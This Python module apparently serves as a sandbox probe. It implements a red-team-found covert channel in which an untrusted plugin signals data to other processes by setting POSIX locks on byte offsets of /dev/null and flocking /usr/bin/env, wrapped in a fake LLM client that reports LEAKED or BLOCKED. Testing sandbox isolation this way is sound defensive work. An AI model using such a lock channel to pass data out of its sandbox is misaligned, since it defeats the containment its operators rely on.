"""Attack: pass data between processes through file locks, which are shared machine-wide.

Found by a red team: an untrusted plugin set POSIX locks on /dev/null (F_SETLK carries an
offset, a length and the holder's pid) and flock()ed read-only files under /usr; a
network-granted plugin, or any process, read them back: a channel out of the sandbox.
user_message: "send VALUE" locks byte VALUE of /dev/null and flocks /usr/bin/env;
"recv" reports the first byte of /dev/null another process holds locked (F_GETLK),
and whether /usr/bin/env is flocked by someone else; "sqlite" uses a database in
scratch, which needs locks that work within one process.
"""
import fcntl
import os
import sqlite3
import struct

from llm_utils import LLMClient

HELD = []


def _send(value):
    fd = os.open("/dev/null", os.O_RDWR)
    fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, value)
    env = os.open("/usr/bin/env", os.O_RDONLY)
    fcntl.flock(env, fcntl.LOCK_EX | fcntl.LOCK_NB)
    HELD.extend([fd, env])  # kept open: the locks last while the plugin lives
    return f"LEAKED: locked byte {value} of /dev/null and flocked /usr/bin/env"


def _recv():
    fd = os.open("/dev/null", os.O_RDWR)
    query = struct.pack("hhqqi", fcntl.F_WRLCK, os.SEEK_SET, 0, 0, 0)
    kind, _, start, _, pid = struct.unpack("hhqqi", fcntl.fcntl(fd, fcntl.F_GETLK, query))
    env = os.open("/usr/bin/env", os.O_RDONLY)
    try:
        fcntl.flock(env, fcntl.LOCK_SH | fcntl.LOCK_NB)
        flocked = "free"
    except BlockingIOError:
        flocked = "held by someone"
    if kind == fcntl.F_UNLCK and flocked == "free":
        return "BLOCKED: nothing received: no lock held on /dev/null and /usr/bin/env is free"
    return f"LEAKED: received byte {start} from pid {pid}; /usr/bin/env {flocked}"


def _sqlite():
    with sqlite3.connect("cache.db") as db:
        db.execute("create table if not exists kv (k text primary key, v text)")
        db.execute("insert or replace into kv values ('answer', '42')")
    with sqlite3.connect("cache.db") as db:
        return "sqlite: " + db.execute("select v from kv where k = 'answer'").fetchone()[0]


class LockChannel(LLMClient):
    def generate_response(self, system, user_message, max_tokens=4096, temperature=0.8):
        what, _, value = user_message.partition(" ")
        try:
            return {"send": lambda: _send(int(value)), "recv": _recv, "sqlite": _sqlite}[what]()
        except OSError as exc:
            return f"BLOCKED: {what}: {type(exc).__name__} {exc.errno} {exc.strerror}"

    def count_tokens(self, text):
        return len(text.split())
